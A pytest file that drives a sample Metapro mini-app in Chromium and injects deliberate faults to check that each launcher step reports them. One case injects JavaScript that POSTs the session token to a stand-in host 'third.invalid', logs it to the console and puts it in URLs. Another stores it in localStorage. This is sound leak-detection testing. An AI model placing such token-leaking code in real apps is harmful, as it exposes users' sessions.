"""Drives of the sample Metapro app in real Chromium, as it is and broken in the ways that steps look for."""

from __future__ import annotations

import asyncio
import json
import re
import zipfile
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from pydantic import SecretStr

from launcher.metapro import CATALOGUE, Launch, MetaproDriver, Screen, Verdict
from launcher.metapro.steps.launch import start_parameter
from launcher.metapro.steps.login import app_login
from tests.metapro_drives import APP, settings_for
from tests.metapro_pages import PATIENT, Stage, browser, driven, failed, stage

__all__ = ["browser", "stage"]

pytestmark = pytest.mark.asyncio(loop_scope="session")


async def test_the_sample_app_goes_through_the_steps(stage: Stage, tmp_path: Path) -> None:
    """And neither the report nor the trace tells the token or the launch."""
    trace = tmp_path / "trace.zip"
    usual = [step.id for step in CATALOGUE if step.id not in ("D1.users", "D1.nft")]
    report = await driven(stage, *usual, trace=trace, negative=True)
    assert failed(report) == {}
    skipped = {step.id for step in report.steps if step.verdict is Verdict.SKIPPED}
    over_walletconnect = {step.id for step in CATALOGUE if "walletconnect" in step.id}
    assert skipped == {"W3", "X1", "X2", "D1.teams", "D1.referral", "S2", *over_walletconnect}
    assert report.exit_code == 0
    assert "android: works; ios: works; tdesktop: warns" in report["T2"].cause
    assert report["X3"].cause.startswith("1 login after the 401")
    tokens = list(stage.metapro.accounts.tokens)
    with zipfile.ZipFile(trace) as archive:
        told = b"".join(archive.read(name) for name in archive.namelist()).decode("utf-8", "replace")
    assert "/v2/auth/telegram/login/simple" in told
    assert tokens
    assert [token for token in tokens if token in told + json.dumps(report.to_json())] == []


@pytest.mark.slow
async def test_an_app_that_opens_no_link_is_told_so(stage: Stage) -> None:
    relay = {"relay_project": SecretStr("a-project-for-tests")}
    report = await driven(stage, "W1.walletconnect", settings=relay)
    assert report["W1.walletconnect"].verdict is Verdict.SKIPPED
    link = report["W1.walletconnect"].cause
    assert link.startswith("the app opens no WalletConnect link; it tells: wallet: there is no wallet")


@dataclass(frozen=True)
class Broken:
    """An app that is broken by other texts in its script, and what is told of it, by the step's id. `steps`
    are those to be made beside."""

    changes: dict[str, str]
    told: dict[str, tuple[str, ...]]
    start_param: str | None = "friend"
    steps: tuple[str, ...] = ()
    switches: dict[str, str] = field(default_factory=dict)


GATE = "element(state === 'gated' ? 'gate' : 'app').hidden = false;"
BEGIN = "await Promise.all([signIn(), showLeaderboard(), meetConnectedWallet()]);"
TELL = "tell(what, problem.message || String(problem));"
THIRD = "fetch('http://third.invalid/', { method: 'POST', body: session.token }).catch(() => 0);"
IN_ADDRESSES = (
    "fetch(`/?t=${encodeURIComponent(session.token)}`).catch(() => 0);"
    "history.replaceState(null, '', `?t=${session.token}`);"
)
BROKEN = {
    "says what its launch does not": Broken(
        {
            "telegramSimpleString: rawInitData": "telegramSimpleString: `${rawInitData}&x=1`",
            "initData.get('start_param') || undefined": "'friend'",
            "projectId: config.ids.project_id": "projectId: 'another'",
            "platformId: config.ids.platform_id": "platformId: null",
            "telegramBotName: config.ids.bot_name": "telegramBotName: '@demo_bot'",
        },
        {
            "L1.app": (
                "byte for byte",
                "projectId is not the configured one",
                "platformId is not the configured one",
                "telegramBotName is not the configured one",
            ),
            "T3": ("no start parameter",),
        },
        start_param=None,
        steps=("L1",),
    ),
    "wrong in five ways": Broken(
        {
            "        referralCode,\n": "",
            "know(account);\n": f"know(account); console.log(session.token); {THIRD} {IN_ADDRESSES}\n",
            "`Request ID ${hash}`": "`Request ID A-HASH-OF-ITS-OWN`",
            TELL: f"if (problem.code !== 4001) {TELL}",
            "problem.status !== 401 || !again": "problem.status !== 401",
        },
        {
            "T3": ("does not reach the login",),
            "S1": (
                "in the address of a request",
                "in the address of the page",
                "in the console",
                "goes to third.invalid",
            ),
            "W2.app": ("another hash than Metapro issued",),
            "W4.rejected": ("says nothing about a refused signature",),
            "X3": ("a loop",),
        },
        switches={"leaderboard_reads": "key"},  # of which it tells
    ),
}
LATER = "setTimeout(() => { throw new Error('not expected'); })"
SLOWLY_BROKEN = {
    "blank on desktops": Broken(
        {GATE: f"if (state === 'gated') document.body.replaceChildren(); else {GATE}"},
        {"T2": ("on tdesktop the page stays blank",)},
    ),
    "another text signed": Broken(
        {"`Request ID ${hash}`": "`Request ID: ${hash}`"}, {"W2.app": ("five lines",)}
    ),
    "deaf to the wallet": Broken(
        {"provider.on?.('accountsChanged'": "void ('accountsChanged'"}, {"W4.account": ("old account",)}
    ),
    "gives up at a 401": Broken(
        {"problem.status !== 401 || !again": "true"}, {"X3": ("does not log in again",)}
    ),
    "fails with errors, and asks only once": Broken(
        {
            "provider.on?.('chainChanged', showChain);": f"provider.on?.('chainChanged', () => {LATER});",
            TELL: f"{TELL} if (what === 'leaderboard') {LATER};",
            "let wallet = null;": "let wallet = null; let begun = false;",
            "await attempt('attaching', async () => {": (
                "if (begun) return; begun = true; await attempt('attaching', async () => {"
            ),
        },
        {
            "W4.chain": ("the page fails with", "not expected"),
            "W4.rejected": ("does not ask again",),
            "D1.leaderboard": ("502 in HTML: the page fails with", "not expected"),
        },
    ),
    "silent about faults": Broken(
        {"items('error', [...problems.values()]);": ""}, {"D1.leaderboard": ("tells nothing",)}
    ),
    "silent about the leaderboard, and not about its wallet": Broken(
        {TELL: f"if (what !== 'leaderboard') {TELL}", BEGIN: f"tell('wallet', 'gone'); {BEGIN}"},
        {"D1.leaderboard": ("tells nothing",)},
    ),
    "login behind the leaderboard": Broken(
        {BEGIN: "await showLeaderboard(); if (!problems.size) await signIn();"}, {"D2": ("does not log in",)}
    ),
}


@pytest.mark.parametrize(
    "broken",
    [
        *(pytest.param(case, id=name) for name, case in BROKEN.items()),
        *(pytest.param(case, id=name, marks=pytest.mark.slow) for name, case in SLOWLY_BROKEN.items()),
    ],
)
async def test_each_fault_of_an_app_fails_its_own_step(stage: Stage, broken: Broken) -> None:
    report = await driven(
        stage, *broken.told, *broken.steps, broken=broken.changes, start_param=broken.start_param,
        switches=broken.switches,
        screen=Screen(seconds=8.0),
    )  # fmt: skip
    assert failed(report).keys() == broken.told.keys()
    untold = [
        (step, text)
        for step, texts in broken.told.items()
        for text in texts
        if text not in report[step].cause
    ]
    assert untold == []
    assert [step for step in broken.told if not report[step].remedy] == []
    assert report.exit_code == 1


async def test_an_app_that_is_careless_with_its_token_is_told_so(stage: Stage) -> None:
    """It sends it before it has one, in another way, and shows it: that is struck out, and cut short then."""
    careless = {
        "authorization: token, 'x-account-userid': userId": "authorization: `Bearer ${token}`",
        BEGIN: "session = { token: 'x' }; await me(); session = null; " + BEGIN,
        "`${what}: ${problem}`": "`${'.'.repeat(352)}${session?.token}`",
        "know(account);\n": "know(account); localStorage.setItem('kept', session.token);\n",
    }
    report = await driven(stage, "X3", "S1", broken=careless)
    assert report["S1"].warnings == ("the token is in localStorage, and outlives the session",)
    assert "before it logs in" in report["L1.app"].warnings[0]
    for step in ("L1.app", "X3"):
        assert report[step].warnings[-2:] == (
            "the app sends its token after Bearer, not as configured",
            "the app sends its token without x-account-userid",
        )
    told = json.dumps(report.to_json())
    assert "then it tells: ......" in report["X3"].cause
    assert [token for token in stage.metapro.accounts.tokens if token[:6] in told] == []


async def test_an_app_is_judged_by_its_own_launch_when_the_driver_has_a_newer_one(stage: Stage) -> None:
    driver = MetaproDriver(settings_for(stage.metapro), screen=PATIENT)
    async with (
        stage.launcher.open(APP, start_param="mine") as newer,
        stage.launcher.open(APP, start_param="friend", hosting=driver.hosting()) as app,
        driver._session(app, None) as drive,
    ):
        drive.fresh = Launch.of(newer)
        assert drive.newest.raw != drive.launched.raw
        assert (await app_login(drive)).text == "our init data unchanged, the configured ids"
        assert (await start_parameter(drive)).text == "the start parameter is the login's referralCode"


async def test_an_app_whose_script_never_ends_does_not_stop_the_drive(
    stage: Stage, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("launcher.metapro.watch.READING", 0.3)
    screen = Screen(seconds=1.0)
    read = "  const text = await response.text();\n"
    async with asyncio.timeout(40):
        stuck = {read: f"{read}  if (path.includes('login')) for (;;);\n"}
        report = await driven(stage, "S1", broken=stuck, screen=screen)
    assert failed(report) == {"L1.app": "the app's login is answered, and then its page hangs"}


async def test_a_key_that_the_page_has_is_in_no_recording(stage: Stage, tmp_path: Path) -> None:
    trace = tmp_path / "trace.zip"
    report = await driven(stage, "B3", switches={"page_has_leaderboard_key": True}, trace=trace)
    assert report["B3"].warnings[0] == "the leaderboard key is in what the page loads"
    with zipfile.ZipFile(trace) as archive:
        told = b"".join(archive.read(name) for name in archive.namelist()).decode("utf-8", "replace")
    assert "leaderboard_key" in told
    assert stage.metapro.ids["leaderboard_key"] not in told


ON_LOAD = {
    "element('attach').disabled = !wallet;": "if (wallet && !begun) { begun = 1; await logIn(); attach(); }",
    "let wallet = null;": "let wallet = null; let begun = false;",
}


@pytest.mark.parametrize("allowed", [False, pytest.param(True, marks=pytest.mark.slow)])
async def test_what_an_app_attaches_on_its_own_is_not_written_unless_allowed(
    stage: Stage, tmp_path: Path, allowed: bool
) -> None:
    """And what it is told of the person and signs is in no recording."""
    trace, now = tmp_path / "trace.zip", len(stage.metapro.log)
    alice = stage.metapro.accounts.log_in_by_telegram({"id": _alice(stage), "first_name": "A"}, None)
    alice.details |= {"email": "alice.canary@mail.example", "birthDate": "1990-01-02"}
    report = await driven(stage, "S1", broken=ON_LOAD, trace=trace, settings={"allow_writes": allowed})
    assert failed(report) == {}
    attached = [line.status for line in list(stage.metapro.log)[now:] if line.endpoint == "new_address"]
    assert attached == ([201] if allowed else [])
    with zipfile.ZipFile(trace) as archive:
        told = b"".join(archive.read(name) for name in archive.namelist()).decode("utf-8", "replace")
    assert "/v2/auth/web3/new-address" in told, "the app should have tried"
    assert re.findall("0x[0-9a-f]{130}|alice.canary|1990-01-02", told) == []


def _alice(stage: Stage) -> int:
    return stage.sandbox.world.user("alice").id
